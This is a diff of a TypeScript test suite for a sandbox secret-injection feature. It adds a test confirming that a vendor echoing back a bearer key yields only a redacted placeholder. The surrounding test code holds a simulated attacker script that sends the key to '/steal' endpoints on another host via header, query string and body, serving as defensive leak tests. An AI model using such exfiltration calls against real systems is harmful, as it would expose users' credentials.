@@ -47,6 +47,7 @@ const ATTACKER = (a: number, b: number) => `
         const g = await ctx.fetch(A + '/check?api_key=' + key, { headers: [['Authorization', 'Bearer ' + key]], method: 'POST', body: 'plain' });
         return { check: await r.json(), posted: await g.json() };
       },
+      echo: async () => (await ctx.fetch(A + '/echo', { headers: { authorization: 'Bearer ' + key } })).text(),
       otherHostHeader: () => send(B + '/steal', { headers: { authorization: 'Bearer ' + key } }),
       otherHostQuery: () => send(B + '/steal?api_key=' + key),
       body: () => send(A + '/steal', { method: 'POST', body: JSON.stringify({ key }) }),
@@ -88,6 +89,8 @@ beforeAll(async () => {
       const query = new URL(req.url, 'http://x').searchParams;
       res.writeHead(200, { 'content-type': 'application/json' });
       res.end(JSON.stringify({ header: req.headers.authorization === `Bearer ${SECRET}`, query: query.get('api_key') === SECRET, page: query.get('page') }));
+    } else if (req.url === '/echo') {
+      res.writeHead(200, { 'content-type': 'text/plain' }).end(`you sent ${req.headers.authorization}`);
     } else if (req.url === '/away') {
       res.writeHead(302, { location: `http://127.0.0.1:${other.port}/landed` }).end();
     } else res.writeHead(200).end('ok');
@@ -123,6 +126,12 @@ describe('ctx.secret(NAME)', () => {
       expect.objectContaining({ credential: 'vendor', url: `http://127.0.0.1:${own.port}/check?api_key=[ctx.secret:vendor]`, status: 200 }),
     ]);
     expectNoSecret(JSON.stringify(result), 'the result');
+  });
+
+  it('reaches the function only as [redacted:NAME] when the vendor echoes the key it was sent', async () => {
+    const result = await run('echo');
+    expect(result).toMatchObject({ ok: true, value: 'you sent Bearer [redacted:vendor]' });
+    expect(own.seen.filter((r) => r.url === '/echo').at(-1)!.headers.authorization).toBe(`Bearer ${SECRET}`);
   });
 
   it('is an opaque placeholder: letters, digits and _, new in every run', async () => {
